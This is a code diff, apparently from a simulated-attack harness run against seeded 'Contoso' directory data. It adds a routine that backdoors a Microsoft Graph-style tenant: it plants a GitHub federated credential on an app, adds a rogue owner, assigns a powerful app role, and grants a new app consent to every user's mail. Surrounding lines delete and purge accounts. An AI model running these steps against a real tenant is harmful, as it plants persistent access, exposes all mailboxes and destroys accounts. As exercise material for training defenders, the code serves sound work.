@@ -2,7 +2,8 @@
 import { contosoIds } from '../../embedded/seeds/contoso.ts';
 import type { Person } from './graph.ts';
 
-const { users, groups, policies, locations, breakGlassAccounts, breakGlassGroup } = contosoIds;
+const { users, groups, policies, locations, applications, servicePrincipals, breakGlassAccounts, breakGlassGroup } =
+  contosoIds;
 const policiesPath = '/beta/identity/conditionalAccess/policies';
 const locationsPath = '/beta/identity/conditionalAccess/namedLocations';
 
@@ -60,11 +61,40 @@ export async function attack(person: Person, endpoint: string): Promise<void> {
     `/v1.0/groups/${groups['Role-GlobalReaders']}/members/$ref`,
     referenceTo(endpoint, String(rogue.id)),
   );
+  await stayInApplications(person, endpoint, String(rogue.id));
   await person.delete(`/v1.0/users/${users['lars.hansen']}`);
   await person.delete(`/v1.0/users/${users['marcus.webb']}`);
   await person.delete(`/v1.0/groups/${groups['CA-Finance']}`);
   await person.delete(`/v1.0/users/${users['emeka.okafor']}`);
   await person.delete(`/v1.0/directory/deletedItems/${users['emeka.okafor']}`);
+}
+
+/** Ways back in that survive every new password: a federated credential, a powerful app role, consent for everybody's mail. */
+async function stayInApplications(person: Person, endpoint: string, rogue: string): Promise<void> {
+  const daemon = `/v1.0/applications/${applications.nightlyExport}`;
+  await person.post(`${daemon}/federatedIdentityCredentials`, {
+    name: 'github-maintenance',
+    issuer: 'https://token.actions.githubusercontent.com',
+    subject: 'repo:contoso-maintenance/tools:ref:refs/heads/main',
+    audiences: ['api://AzureADTokenExchange'],
+  });
+  await person.post(`${daemon}/owners/$ref`, referenceTo(endpoint, rogue));
+  await person.post(`/v1.0/servicePrincipals/${servicePrincipals.graph}/appRoleAssignedTo`, {
+    principalId: servicePrincipals.nightlyExport,
+    resourceId: servicePrincipals.graph,
+    appRoleId: '9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8',
+  });
+  const application = await person.post('/v1.0/applications', {
+    displayName: 'Contoso Mail Sync',
+    signInAudience: 'AzureADMyOrg',
+  });
+  const principal = await person.post('/v1.0/servicePrincipals', { appId: application.appId });
+  await person.post('/v1.0/oauth2PermissionGrants', {
+    clientId: principal.id,
+    consentType: 'AllPrincipals',
+    resourceId: servicePrincipals.graph,
+    scope: 'Mail.ReadWrite offline_access',
+  });
 }
 
 /** One more change after people have reviewed what to undo. */
